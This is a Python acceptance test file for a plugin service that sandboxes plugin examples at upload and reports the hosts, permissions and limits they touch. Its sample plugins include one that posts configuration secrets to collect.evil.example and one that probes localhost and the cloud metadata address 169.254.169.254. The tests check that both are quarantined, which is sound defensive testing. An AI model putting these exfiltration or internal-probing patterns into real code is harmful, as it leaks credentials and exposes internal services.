"""Examples are rehearsed at the upload to a real service: nothing real is reached, and the report tells of it."""

import json
import socket
from typing import Any

import httpx
import pytest

from tests.acceptance.test_path_of_a_package import package, run, upload
from tests.conftest import RunningService

HOSTS = ["api.acme.com"]
PYTHON = """
async def honest(input, context):
    services = context.services
    rates = (await services.http.get("https://api.acme.com/v1/rates")).json()
    await services.database.execute("create table notes (id int)")
    await services.files.write("rates.json", "{}")
    return {"rates": rates, "rows": await services.database.query("select id from notes")}

async def steals(input, context):
    await context.services.http.post("https://collect.evil.example/in", json={"key": context.configuration})

async def knocks(input, context):
    return (await context.services.http.get("http://" + input)).status

async def loops(input, context):
    while True:
        pass
"""


def packed(name: str, examples: dict[str, list[Any]], permissions: list[Any], code: str = PYTHON, **more: Any) -> bytes:
    functions = {function: {"examples": inputs} for function, inputs in examples.items()}
    asked = {"permissions": permissions}
    return package(code, metadata={"name": name}, functions=functions, security=asked, **more)


def uploaded(client: httpx.Client, data: bytes, **fields: str) -> dict[str, Any]:
    answer = upload(client, data, **fields)
    assert answer.status_code in (201, 202), answer.text
    return dict(answer.json())


def found(report: dict[str, Any]) -> dict[str, str]:
    return {one["rule"]: one["consequence"] for one in report["findings"] if one["rule"].startswith("behaviour.")}


@pytest.fixture
def client(service: RunningService) -> Any:
    with service.client() as client:
        yield client


def test_an_honest_plugin_shows_what_it_uses_and_costs_and_its_report_stays(client: httpx.Client) -> None:
    permissions = ["database", "filesystem", "cache", {"service": "network", "hosts": HOSTS}]
    body = uploaded(client, packed("honest-rates", {"honest": [None]}, permissions))
    report = body["report"]
    assert found(report) == {"behaviour.unused-permission": "show"}
    behaviour = report["behaviour"]
    (example,) = behaviour["examples"]
    assert (example["function"], example["status"], example["code"]) == ("honest", "succeeded", None)
    assert example["cpuMs"] > 0
    assert example["peakMemoryBytes"] > 1 << 20
    assert example["permissions"] == ["database", "filesystem", "network"]
    assert (behaviour["unused"], behaviour["undeclared"]) == (["cache"], [])
    assert behaviour["hosts"] == [{"host": "api.acme.com", "declared": True, "private": False}]
    kept = client.get(f"/api/v1/plugins/{body['plugin']['id']}/report").json()
    assert kept["behaviour"] == behaviour


def test_what_was_written_in_a_rehearsal_is_nowhere_when_the_plugin_is_executed(client: httpx.Client) -> None:
    code = """
async def look(input, context):
    await context.services.cache.set("left", "here")
    await context.services.files.write("left.txt", "here")

async def find(input, context):
    return [await context.services.cache.get("left"), await context.services.files.list()]
"""
    data = packed("leaves-things", {"look": [1], "find": []}, ["cache", "filesystem"], code)
    plugin = uploaded(client, data, activate="true")["plugin"]["id"]
    assert run(client, plugin, "find")["output"] == [None, []]
    listed = client.get(f"/api/v1/plugins/{plugin}/executions").json()["items"]
    assert [one["function"] for one in listed] == ["find"], "a rehearsal is no execution of anybody's"
    logged = client.get(f"/api/v1/plugins/{plugin}/logs").json()["items"]
    assert logged == []


def test_a_plugin_that_sends_secrets_elsewhere_is_found_out(client: httpx.Client) -> None:
    more = {"configuration": {"properties": {"key": {"default": "s3cret"}}}}
    permissions = [{"service": "network", "hosts": HOSTS}]
    report = uploaded(client, packed("steals-keys", {"steals": [None]}, permissions, **more))["report"]
    assert found(report) == {"behaviour.undeclared-host": "quarantine"}
    assert "s3cret" not in json.dumps(report)
    target = report["behaviour"]["examples"][0]["uses"][0]["target"]
    assert target == "POST https://collect.evil.example/in"


def test_a_plugin_that_knocks_at_what_is_inside_is_found_out_and_nothing_opens(client: httpx.Client) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        own = f"127.0.0.1:{listener.getsockname()[1]}"
        examples = {"knocks": [own, f"localhost:{listener.getsockname()[1]}", "169.254.169.254/latest/meta-data"]}
        report = uploaded(client, packed("knocks-inside", examples, ["network"]))["report"]
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert found(report) == {"behaviour.private-address": "quarantine"}
    assert all(one["private"] for one in report["behaviour"]["hosts"])
    assert len(report["behaviour"]["hosts"]) == 3


def test_a_plugin_that_loops_is_let_in_after_a_bounded_time_with_the_limit_that_it_met(client: httpx.Client) -> None:
    report = uploaded(client, packed("loops-on", {"loops": [1, 2, 3]}, []))["report"]
    assert found(report)["behaviour.limit-met"] == "show"
    assert report["behaviour"]["tookMs"] < 10_000
